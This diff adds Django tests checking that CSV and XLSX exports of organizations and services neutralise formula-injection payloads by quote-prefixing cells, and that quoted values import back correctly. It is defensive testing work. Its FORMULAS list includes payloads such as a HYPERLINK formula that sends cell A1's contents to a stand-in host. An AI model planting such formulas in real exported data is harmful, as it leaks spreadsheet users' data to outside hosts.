@@ -3,12 +3,19 @@
 import csv
 import io
 
+import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
+from import_export.results import RowResult
+from openpyxl import load_workbook
 
+from directory.models import Organization
 from services.models import Service
 
 CSV_FORMAT, XLSX_FORMAT = "0", "1"
+
+# Text a spreadsheet would run as a formula (a cell starting with CR: tests/directory).
+FORMULAS = ['=HYPERLINK("http://x/?"&A1,"Klikni")', "+1", "-2+3", "@SUM(A1)", "\tx"]
 
 
 def _export(client, file_format=CSV_FORMAT):
@@ -51,6 +58,67 @@ def test_export_to_xlsx(coordinator_client, world):
     response = _export(coordinator_client, XLSX_FORMAT)
     assert "spreadsheetml" in response["Content-Type"]
     assert response.content[:2] == b"PK"
+
+
+@pytest.fixture
+def formulas(world):
+    """Our service and its organization named and described as formulas; a phone number
+    starts with + too."""
+    Organization.objects.filter(pk=world.ours.pk).update(name=FORMULAS[0])
+    Service.objects.filter(pk=world.our_service.pk).update(
+        name=FORMULAS[3],
+        summary=FORMULAS[0],
+        description=FORMULAS[1],
+        cost_note=FORMULAS[2],
+        phone="+420 567 000 111",
+        referral_process=FORMULAS[4],
+        min_age=15,
+    )
+    return world
+
+
+def test_csv_export_cells_cannot_run_as_formulas(coordinator_client, formulas):
+    response = _export(coordinator_client)
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    [row] = _rows(response)
+    assert row["organization_name"] == "'" + FORMULAS[0]
+    assert row["name"] == "'@SUM(A1)"
+    assert [row["summary"], row["description"], row["cost_note"]] == [
+        "'" + text for text in FORMULAS[:3]
+    ]
+    assert row["referral_process"] == "'\tx"
+    assert row["phone"] == "'+420 567 000 111"
+    assert row["min_age"] == "15"
+
+
+def test_xlsx_export_cells_cannot_run_as_formulas(coordinator_client, formulas):
+    sheet = load_workbook(io.BytesIO(_export(coordinator_client, XLSX_FORMAT).content)).active
+    [header, row] = sheet.iter_rows()
+    cells = {column.value: cell for column, cell in zip(header, row, strict=True)}
+    assert cells["organization_name"].value == "'" + FORMULAS[0]
+    assert cells["name"].value == "'@SUM(A1)"
+    assert [cells[name].value for name in ("summary", "description", "cost_note")] == [
+        "'" + text for text in FORMULAS[:3]
+    ]
+    assert cells["phone"].value == "'+420 567 000 111"
+    assert all(cell.data_type != "f" for cell in row)
+    assert (cells["id"].value, cells["min_age"].value) == (formulas.our_service.pk, 15)
+
+
+def test_an_exported_formula_imports_back_unchanged(coordinator_client, formulas):
+    result = _preview(coordinator_client, _rows(_export(coordinator_client))).context["result"]
+    assert not result.has_errors() and not result.has_validation_errors()
+    assert [row.import_type for row in result.rows] == [RowResult.IMPORT_TYPE_SKIP]
+
+
+def test_a_quoted_formula_in_an_import_is_stored_without_the_quote(coordinator_client, world):
+    rows = _rows(_export(coordinator_client))
+    rows[0]["summary"] = "'-2+3"
+    preview = _preview(coordinator_client, rows)
+    confirm = preview.context["confirm_form"]
+    data = {name: confirm[name].value() for name in confirm.fields}
+    coordinator_client.post(reverse("admin:services_service_process_import"), data)
+    assert Service.objects.get(pk=world.our_service.pk).summary == "-2+3"
 
 
 def test_import_previews_then_saves_changes_with_history(coordinator_client, world):
